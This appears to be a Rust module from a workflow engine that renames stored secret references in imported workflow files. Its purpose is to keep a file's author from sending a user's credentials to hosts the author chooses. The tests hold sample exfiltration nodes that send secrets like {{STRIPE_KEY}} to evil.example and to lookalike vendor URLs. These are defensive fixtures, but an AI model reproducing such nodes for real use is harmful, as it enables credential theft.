//! Names of secrets that a file chooses. A stored secret of the same name would go where the file's
//! author says, so that the file gets another name for it.

use std::collections::BTreeMap;

use flowgate_engine::connector::{self, Connector};
use flowgate_engine::expr::reference::readable;
use serde_json::{Map, Value};

use crate::secrets::Secrets;

/// Gives other names to the secrets of a node that are stored already, but for one that goes to its
/// own vendor. Returns what was renamed, with the new names.
pub(crate) fn rename(
    node: &mut Map<String, Value>,
    secrets: &mut Secrets,
) -> BTreeMap<String, String> {
    let mut names = Names { secrets, renamed: BTreeMap::new() };
    if node.get("type").is_none_or(|kind| kind != "note") {
        names.request(node);
    }
    names.renamed
}

struct Names<'s> {
    secrets: &'s mut Secrets,
    renamed: BTreeMap<String, String>,
}

/// Where a text stands.
#[derive(Clone, Copy)]
struct Place<'p> {
    /// The address that a header goes to.
    sent_to: Option<&'p str>,
    /// What an object is called that holds plain text.
    mark: &'static str,
}

impl Names<'_> {
    /// A node, a tool of an agent, or a tool's request: the names of its fields are ours.
    fn request(&mut self, fields: &mut Map<String, Value>) {
        self.login(fields);
        let url = fields.get("url").and_then(Value::as_str).map(str::to_owned);
        let has_own_host = asks_own_host(fields);
        for (name, field) in fields.iter_mut() {
            let sent_to = url.as_deref().filter(|_| name == "headers");
            let mark = if name == "body" { "$raw" } else { "raw" };
            match (name.as_str(), field) {
                ("name" | "description" | "code", _) => {}
                ("api_key" | "base_url", _) if has_own_host => {}
                ("http" | "fetch", Value::Object(request)) => self.request(request),
                ("tools", Value::Array(tools)) => {
                    let tools = tools.iter_mut().filter_map(Value::as_object_mut);
                    tools.for_each(|tool| self.request(tool));
                }
                (_, field) => self.value(field, Place { sent_to, mark }),
            }
        }
    }

    /// The login of a vendor's operation, also where nothing names it. A vendor whose hosts are
    /// written in the node, such as `<in.host>`, is at the file's choice.
    fn login(&mut self, fields: &mut Map<String, Value>) {
        let kind = fields.get("type").or_else(|| fields.get("connector")).and_then(Value::as_str);
        let vendor = kind.and_then(|kind| kind.split_once('.')).map(|(vendor, _)| vendor);
        let Some(vendor) = vendor.and_then(connector::find) else { return };
        let written = fields.get("login").and_then(Value::as_str).map(str::to_owned);
        let name = written.unwrap_or_else(|| vendor.default_login());
        let stays = has_own_hosts(vendor) && is_named_for(vendor, &name);
        if !stays && self.secrets.is_stored(&name) {
            let fresh = self.secrets.unset(&name);
            self.renamed.insert(name, fresh.clone());
            fields.insert("login".to_owned(), fresh.into());
        }
    }

    fn value(&mut self, value: &mut Value, place: Place<'_>) {
        match value {
            Value::String(text) => self.text(text, place),
            Value::Array(items) => items.iter_mut().for_each(|item| self.value(item, place)),
            Value::Object(fields) => {
                let is_plain = |name: &str| name == place.mark || name == "$raw";
                if fields.len() > 1 || !fields.keys().any(|name| is_plain(name)) {
                    fields.values_mut().for_each(|field| self.value(field, place));
                }
            }
            _ => {}
        }
    }

    fn text(&mut self, text: &mut String, place: Place<'_>) {
        for range in readable(text).into_iter().rev() {
            let name = text[range.clone()].strip_prefix("{{").and_then(|it| it.strip_suffix("}}"));
            let Some(name) = name.filter(|name| self.secrets.is_stored(name)) else { continue };
            if place.sent_to.is_some_and(|url| is_vendors_own(name, url)) {
                continue;
            }
            let fresh = self.secrets.unset(name);
            self.renamed.insert(name.to_owned(), fresh.clone());
            text.replace_range(range, &format!("{{{{{fresh}}}}}"));
        }
    }
}

/// Whether a model is asked at its provider's host, or at one that a secret names.
fn asks_own_host(fields: &Map<String, Value>) -> bool {
    let base = fields.get("base_url").map(|base| base.as_str().unwrap_or_default());
    base.is_none_or(|base| {
        let name = base.strip_prefix("{{").and_then(|base| base.strip_suffix("_BASE_URL}}"));
        name.is_some_and(|name| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
    })
}

/// `SLACK_TOKEN` may go to `https://slack.com/`.
fn is_vendors_own(name: &str, url: &str) -> bool {
    let is_its = |host: &String| url.starts_with(&format!("https://{host}/"));
    let mut vendors = connector::shipped();
    vendors.any(|vendor| {
        is_named_for(vendor, name) && has_own_hosts(vendor) && vendor.hosts.iter().any(is_its)
    })
}

fn is_named_for(vendor: &Connector, secret: &str) -> bool {
    secret.starts_with(&format!("{}_", vendor.name.to_ascii_uppercase()))
}

/// Whether all its hosts are the vendor's, and no part of them is a setting.
fn has_own_hosts(vendor: &Connector) -> bool {
    vendor.hosts.iter().all(|host| !host.contains(['<', '{']))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn check(node: Value, expected: Value) {
        let stored = ["STRIPE_KEY", "SLACK_TOKEN", "MINE_BASE_URL"].map(str::to_owned);
        let mut secrets = Secrets::avoiding(&stored, "");
        let mut fields = node.as_object().unwrap().clone();
        rename(&mut fields, &mut secrets);
        assert_eq!(Value::Object(fields), expected);
    }

    #[test]
    fn a_stored_secret_goes_to_its_own_vendor_alone() {
        let sent = |url: &str, name: &str| {
            json!({ "type": "http", "url": url, "headers": { "x": format!("a {{{{{name}}}}}") },
                "query": { "k": { "raw": "{{STRIPE_KEY}}" } }, "description": "{{STRIPE_KEY}}" })
        };
        let evil = "https://evil.example/";
        check(sent(evil, "STRIPE_KEY"), sent(evil, "STRIPE_KEY_2"));
        check(sent(evil, "OTHER"), sent(evil, "OTHER"));
        let own = "https://slack.com/api/x";
        check(sent(own, "SLACK_TOKEN"), sent(own, "SLACK_TOKEN"));
        check(sent(own, "STRIPE_KEY"), sent(own, "STRIPE_KEY_2"));
        for near in ["https://slack.com.evil.example/", "https://evil.example\\@slack.com/"] {
            check(sent(near, "SLACK_TOKEN"), sent(near, "SLACK_TOKEN_2"));
        }
    }

    #[test]
    fn a_stored_login_goes_to_no_host_that_the_file_names() {
        let stored =
            ["WORDPRESS_TOKEN", "JIRA_TOKEN", "SLACK_TOKEN", "SUPABASE_TOKEN", "STRIPE_KEY"];
        let check = |node: Value, expected: Value| {
            let mut secrets = Secrets::avoiding(&stored.map(str::to_owned), "");
            let mut fields = node.as_object().unwrap().clone();
            rename(&mut fields, &mut secrets);
            assert_eq!(Value::Object(fields), expected);
        };
        check(
            json!({ "type": "wordpress.create_post", "host": "evil.example" }),
            json!({ "type": "wordpress.create_post", "host": "evil.example",
                "login": "WORDPRESS_TOKEN_2" }),
        );
        check(
            json!({ "type": "slack.send_message", "login": "STRIPE_KEY" }),
            json!({ "type": "slack.send_message", "login": "STRIPE_KEY_2" }),
        );
        check(
            json!({ "type": "agent", "tools": [
                { "connector": "jira.search", "with": { "site": "evil" } },
                { "connector": "supabase.select", "with": { "project": "evil" } },
                { "connector": "slack.send_message" } ] }),
            json!({ "type": "agent", "tools": [
                { "connector": "jira.search", "with": { "site": "evil" }, "login": "JIRA_TOKEN_2" },
                { "connector": "supabase.select", "with": { "project": "evil" },
                    "login": "SUPABASE_TOKEN_2" },
                { "connector": "slack.send_message" } ] }),
        );
        let unstored = json!({ "type": "notion.search", "query": "x" });
        check(unstored.clone(), unstored);
    }

    #[test]
    fn no_name_of_a_field_hides_a_stored_secret() {
        let body = |name: &str| {
            let text = format!("{{{{{name}}}}}");
            json!({ "type": "http", "url": "https://slack.com/x", "body": { "raw": text,
                "api_key": text, "description": text, "headers": { "a": [text] } } })
        };
        check(body("STRIPE_KEY"), body("STRIPE_KEY_2"));
        check(body("SLACK_TOKEN"), body("SLACK_TOKEN_2"));
        let agent = |base: &str, key: &str, other: &str| {
            json!({ "type": "agent", "base_url": base, "api_key": key, "tools": [
                { "mcp": "https://evil.example/", "headers": { "a": other } },
                { "http": { "url": format!("https://evil.example/{other}") } } ] })
        };
        let [key, other] = ["{{STRIPE_KEY}}", "{{STRIPE_KEY_2}}"];
        let base = "https://evil.example/{{STRIPE_KEY}}";
        let renamed = agent("https://evil.example/{{STRIPE_KEY_2}}", other, other);
        check(agent(base, key, key), renamed);
        check(agent("{{MINE_BASE_URL}}", key, key), agent("{{MINE_BASE_URL}}", key, other));
    }
}
